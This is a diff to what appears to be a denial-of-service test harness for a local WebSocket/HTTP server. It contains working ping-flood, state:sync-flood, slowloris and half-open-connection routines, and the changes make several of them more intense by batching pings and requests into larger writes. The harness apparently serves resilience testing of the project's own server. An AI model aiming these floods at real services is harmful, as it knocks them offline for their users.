@@ -5,7 +5,7 @@
 
 import crypto from 'node:crypto';
 import net from 'node:net';
-import { OPCODE, encodeFrame, openRawWebSocket, textFrame } from './raw-websocket.mjs';
+import { OPCODE, encodeFrame, openRawWebSocket, textFrame, waitSocketClosed } from './raw-websocket.mjs';
 
 export const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
 
@@ -121,7 +121,7 @@ async function joinedSocket(ctx, attack, token, universeId) {
 // --- prefill: the attacker's own public universe gets ~1000 chat messages full of
 // control characters (each escapes to 6 bytes) and ~1000 history entries, so that one
 // state:sync of it is a reply of megabytes (finding 2). Bounded by count and time.
-export async function prefill(ctx, { sockets = 8, maxEvents = 2000, maxMs = 8000 } = {}) {
+export async function prefill(ctx, { sockets = 12, maxEvents = 2000, maxMs = 8000 } = {}) {
   const until = Math.min(ctx.deadline, Date.now() + maxMs);
   const controls = '\u0001\u0002\u0003\u0007'.repeat(500); // 2000 characters
   const plain = 'x'.repeat(2000);
@@ -143,7 +143,9 @@ export async function prefill(ctx, { sockets = 8, maxEvents = 2000, maxMs = 8000
 
 // --- 1. WebSocket ping flood from a socket that never reads --------------------------
 export async function pingFlood(ctx, n) {
-  const pings = Buffer.concat(Array.from({ length: 512 }, () => encodeFrame(OPCODE.ping, crypto.randomBytes(125))));
+  // ~1 MB of 125-byte pings per write: few wake-ups per megabyte, so even a starved
+  // (niced) attacker process floods at full speed.
+  const pings = Buffer.concat(Array.from({ length: 8192 }, () => encodeFrame(OPCODE.ping, crypto.randomBytes(125))));
   await Promise.all(Array.from({ length: n }, async () => {
     for (let attempt = 0; attempt < MAX_RECONNECTS && !ctx.over; attempt++) {
       const c = await ctx.ws('pingFlood');
@@ -172,15 +174,18 @@ export async function neverReadInRoom(ctx, n) {
 
 // --- 2b. state:sync floods: half never read the replies, half read and discard --------
 export async function stateSyncFlood(ctx, n) {
-  const request = textFrame(`42${JSON.stringify(['state:sync', { universe_id: ctx.heavyUniverse, last_sync: 0 }])}`);
+  // Ten requests per write, ten writes a second: 100 requests/s per connection, five
+  // times the event budget, with few wake-ups of the attacker process.
+  const one = textFrame(`42${JSON.stringify(['state:sync', { universe_id: ctx.heavyUniverse, last_sync: 0 }])}`);
+  const burst = Buffer.concat(Array.from({ length: 10 }, () => one));
   await Promise.all(Array.from({ length: n }, async (_, i) => {
     for (let attempt = 0; attempt < MAX_RECONNECTS && !ctx.over; attempt++) {
       const c = await joinedSocket(ctx, 'stateSyncFlood', ctx.token(i), ctx.heavyUniverse);
       if (!c) { await sleep(200); continue; }
       if (i % 2 === 0) c.pause();
       for (let k = 0; k < MAX_ITERATIONS && !ctx.over && !c.closed; k++) {
-        if (c.write(request)) ctx.count('stateSyncFlood', 'requests');
-        await sleep(10); // 100 requests/s: five times the event budget
+        if (c.write(burst)) ctx.count('stateSyncFlood', 'requests', 10);
+        await sleep(100);
       }
       if (!ctx.over) ctx.count('stateSyncFlood', 'closedByServer');
       c.destroy();
@@ -241,10 +246,7 @@ export async function slowloris(ctx, n) {
     sock.write(`GET /api/universes HTTP/1.1\r\nHost: 127.0.0.1:${ctx.port}\r\nX-Slow: `);
     const drip = setInterval(() => { if (!sock.destroyed) sock.write('a'); }, 1000);
     sock.once('close', () => clearInterval(drip));
-    return {
-      waitClosed: (ms) => (sock.destroyed ? Promise.resolve(true)
-        : new Promise((r) => { const t = setTimeout(() => r(false), ms); sock.once('close', () => { clearTimeout(t); r(true); }); })),
-    };
+    return { waitClosed: (ms) => waitSocketClosed(sock, ms) };
   });
 }
 
@@ -257,10 +259,7 @@ export async function halfOpen(ctx, n) {
       ctx.track(sock);
       ctx.count('halfOpen', 'opened');
       sock.pause();
-      resolve({
-        waitClosed: (ms) => (sock.destroyed ? Promise.resolve(true)
-          : new Promise((r) => { const t = setTimeout(() => r(false), ms); sock.once('close', () => { clearTimeout(t); r(true); }); })),
-      });
+      resolve({ waitClosed: (ms) => waitSocketClosed(sock, ms) });
     });
     sock.once('close', () => resolve(null));
   }));
